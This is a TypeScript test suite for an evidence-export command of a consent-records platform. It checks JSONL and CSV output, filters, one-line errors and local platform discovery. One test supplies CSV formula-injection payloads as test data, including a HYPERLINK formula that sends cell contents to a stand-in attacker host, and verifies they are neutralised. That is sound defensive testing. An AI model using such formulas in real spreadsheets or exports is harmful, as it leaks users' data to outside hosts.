import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportEvidence, CSV_COLUMNS, neutraliseCell, runExport } from '../../bin/commands/export.ts';
import { startPlatform } from '../../local/platform.ts';
import { startTestTable, variantOf, type TestTable } from './engines.ts';

const collect = async (run: (output: PassThrough) => Promise<void>): Promise<string> => {
  const output = new PassThrough();
  const chunks: Buffer[] = [];
  output.on('data', (chunk: Buffer) => chunks.push(chunk));
  await run(output);
  output.end();
  return Buffer.concat(chunks).toString('utf8');
};

describe('Command: export', () => {
  let table: TestTable;
  beforeAll(async () => {
    table = await startTestTable();
    for (let i = 0; i < 30; i++) {
      const variant = variantOf(1 + (i % 2), i % 3 === 0 ? 'jp' : 'eea', 'en');
      await table.store.appendAcceptance({ kind: 'acceptance', accountId: `exp-${i}`, ...variant, at: `2026-11-29T12:00:${String(i).padStart(2, '0')}.000Z`, source: { channel: 'web', ipPrefix: '203.0.113.0/24' } });
    }
    await table.store.appendEvidence('exp-1', 'privacy', { kind: 'choice', campaignId: 'c1', version: 2, option: 'delete', defaulted: false, channel: 'web', seq: 1, evidenceId: 'c1/exp-1/1', writer: 'w', shown: { options: ['accept', 'delete'], region: 'eea', language: 'en' }, at: '2026-12-01T00:00:00.000Z' });
    await table.store.appendEvidence('exp-x', 'cookies', { kind: 'notification', event: 'sent', campaignId: 'c2', messageId: 'm', version: 1, channel: 'email', at: '2026-12-01T00:00:00.000Z' });
  });
  afterAll(async () => table?.stop());

  it('streams every evidence item of the notice as JSON Lines, walking all shards and pages', async () => {
    const progress: number[] = [];
    const text = await collect((output) => exportEvidence({ store: table.store, noticeId: 'privacy', format: 'jsonl', output, onProgress: ({ shardsDone }) => progress.push(shardsDone) }));
    const lines = text.trim().split('\n').map((line) => JSON.parse(line) as { accountId: string; kind: string; noticeId: string });

    expect(lines).toHaveLength(31);
    expect(new Set(lines.map((line) => `${line.accountId}/${line.kind}`)).size).toBe(31);
    expect(lines.every((line) => line.noticeId === 'privacy')).toBe(true);
    expect(progress.at(-1)).toBe(16);
  });

  it('writes CSV with a header and one flattened row per item', async () => {
    const text = await collect((output) => exportEvidence({ store: table.store, noticeId: 'privacy', format: 'csv', output }));
    // The fixture has no commas or quotes in any value, so a plain split reads it back.
    const [header, ...body] = text.trim().split('\n');
    const names = header!.split(',');
    const rows = body.map((line) => Object.fromEntries(line.split(',').map((value, index) => [names[index]!, value])));

    expect(text.split('\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(rows).toHaveLength(31);
    expect(rows.find((row) => row['kind'] === 'choice')).toMatchObject({ option: 'delete', defaulted: 'false', accountId: 'exp-1' });
    expect(rows.find((row) => row['accountId'] === 'exp-0')).toMatchObject({ channel: 'web', ipPrefix: '203.0.113.0/24', region: 'jp' });
  });

  it('neutralises CSV cells a spreadsheet would evaluate (OWASP), and only those', async () => {
    const agents = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\rcmd', 'Mozilla/5.0 (X11)'];
    for (const [i, userAgent] of agents.entries()) {
      await table.store.appendAcceptance({ kind: 'acceptance', accountId: `inj-${i}`, ...variantOf(1, 'eea', 'en'), at: `2026-11-30T00:00:0${i}.000Z`, source: { channel: 'web', userAgent } });
    }
    const text = await collect((output) => exportEvidence({ store: table.store, noticeId: 'privacy', format: 'csv', output, filter: { since: '2026-11-30T00:00:00.000Z', until: '2026-11-30T23:59:59.999Z' } }));
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row['userAgent']).sort()).toEqual([...agents.slice(0, 6).map((agent) => `'${agent}`), 'Mozilla/5.0 (X11)'].sort());
    expect(rows.every((row) => !/^[=+\-@\t\r]/.test(row['userAgent']!))).toBe(true);
    expect(neutraliseCell(-5)).toBe(-5);
  });

  it('filters by time, account and kind', async () => {
    const since = await collect((output) => exportEvidence({ store: table.store, noticeId: 'privacy', format: 'jsonl', output, filter: { since: '2026-11-29T12:00:20.000Z', until: '2026-11-29T12:00:24.999Z' } }));
    expect(since.trim().split('\n').map((line) => (JSON.parse(line) as { accountId: string }).accountId).sort()).toEqual(['exp-20', 'exp-21', 'exp-22', 'exp-23', 'exp-24']);
    const account = await collect((output) => exportEvidence({ store: table.store, noticeId: 'privacy', format: 'jsonl', output, filter: { account: 'exp-1' } }));
    expect(account.trim().split('\n').map((line) => (JSON.parse(line) as { kind: string }).kind)).toEqual(['acceptance', 'choice']);
    const kind = await collect((output) => exportEvidence({ store: table.store, noticeId: 'privacy', format: 'jsonl', output, filter: { kind: 'choice' } }));
    expect(kind.trim().split('\n')).toHaveLength(1);
  });

  it('fails in one line, never a stack trace, when there is nothing to export from or a flag is wrong', async () => {
    const scratch = mkdtempSync(join(tmpdir(), 'export-none-'));
    try {
      const env = { DISCLOSURE_PLATFORM_FILE: join(scratch, 'absent.json') };
      for (const options of [{ outputs: join(scratch, 'none.json') }, { format: 'xml' }, { since: 'yesterday', endpoint: table.endpoint }, { kind: 'bogus' }]) {
        let err = '';
        const code = await runExport(options, { stdout: new PassThrough(), stderr: (text) => { err += text; } }, env);
        expect(code).toBe(1);
        expect(err.trim().split('\n')).toHaveLength(1);
        expect(err).toMatch(/^error: /);
        expect(err).not.toMatch(/\n\s+at /);
      }
    } finally {
      rmSync(scratch, { recursive: true, force: true });
    }
  });

  it('`npm run cli -- export` with no flags finds a running local platform through its discovery file (any ports, DATA_DIR)', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'export-platform-'));
    const platform = await startPlatform({ port: 0, sesPort: 0, quiet: true, dataDir, discoveryFile: join(dataDir, 'discovery', 'platform.json') });
    try {
      const token = await platform.sign({ sub: 'svc', scope: 'disclosure/service' });
      const post = await fetch(`${platform.url}/v1/accounts/acct-noflag/acceptances`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify(variantOf(1, 'eea', 'en')),
      });
      expect(post.status).toBe(201);
      // Asynchronously: the platform's engine runs in this process and must keep answering.
      const cli = await promisify(execFile)('npx', ['tsx', 'bin/cli.ts', 'export'], {
        cwd: join(import.meta.dirname, '../..'),
        env: { ...process.env, DATA_DIR: dataDir, DISCLOSURE_PLATFORM_FILE: '' },
        encoding: 'utf8',
        timeout: 60_000,
      });
      expect(cli.stderr).not.toMatch(/\n\s+at /);
      const lines = cli.stdout.trim().split('\n').map((line) => JSON.parse(line) as { accountId: string; kind: string });
      expect(lines).toEqual([expect.objectContaining({ accountId: 'acct-noflag', kind: 'acceptance' })]);
    } finally {
      await platform.stop();
      rmSync(dataDir, { recursive: true, force: true });
    }
  });
});
